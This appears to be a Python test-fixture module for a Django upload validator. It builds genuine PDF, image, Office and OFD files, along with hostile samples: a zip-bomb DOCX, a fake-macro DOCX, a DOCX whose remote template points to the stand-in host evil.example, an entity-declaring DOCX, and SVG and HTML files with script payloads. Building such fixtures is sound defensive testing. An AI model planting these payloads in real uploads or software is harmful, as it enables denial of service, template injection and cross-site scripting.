"""Real files of each accepted kind, and hostile ones, for the upload tests.

Built with the libraries the project already uses (reportlab, Pillow, python-docx,
openpyxl), so an "accepted" file is what an applicant's software really writes.
"""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile


def pdf_bytes(text: str = "OneWindow test") -> bytes:
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, text)
    page.save()
    return buffer.getvalue()


def _image(fmt: str, colour=(200, 30, 30)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), colour).save(buffer, fmt)
    return buffer.getvalue()


def png_bytes(colour=(200, 30, 30)) -> bytes:
    return _image("PNG", colour)


def jpeg_bytes(colour=(30, 30, 200)) -> bytes:
    return _image("JPEG", colour)


def docx_bytes(text: str = "营业场所证明") -> bytes:
    import docx

    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph(text)
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    buffer = io.BytesIO()
    book = Workbook()
    book.active["A1"] = "从业人员名单"
    book.save(buffer)
    return buffer.getvalue()


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ofd_bytes() -> bytes:
    return _zip(
        {
            "OFD.xml": b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0">'
            b"<ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
            "Doc_0/Document.xml": b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>',
        }
    )


def _rewrite(data: bytes, add: dict[str, bytes] | None = None, replace=None) -> bytes:
    """A copy of an Office file with parts added or replaced."""
    replace = replace or {}
    out = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for entry in archive.infolist():
            out[entry.filename] = replace.get(entry.filename, archive.read(entry))
    out.update(add or {})
    return _zip(out)


def zip_bomb_docx(inflated: int = 20 * 1024 * 1024) -> bytes:
    """A real DOCX with one part of zeros that inflates 1000-fold (a few KB on the wire)."""
    return _rewrite(docx_bytes(), add={"word/media/padding.bin": b"\0" * inflated})


def macro_docx() -> bytes:
    return _rewrite(docx_bytes(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0fake"})


def remote_template_docx() -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return _rewrite(docx_bytes(), add={"word/_rels/settings.xml.rels": rels})


def doctype_docx() -> bytes:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    )
    return _rewrite(docx_bytes(), replace={"word/document.xml": bomb})


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 64


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    """A browser upload; the content type it claims is deliberately not trusted."""
    return SimpleUploadedFile(name, data, content_type=content_type)
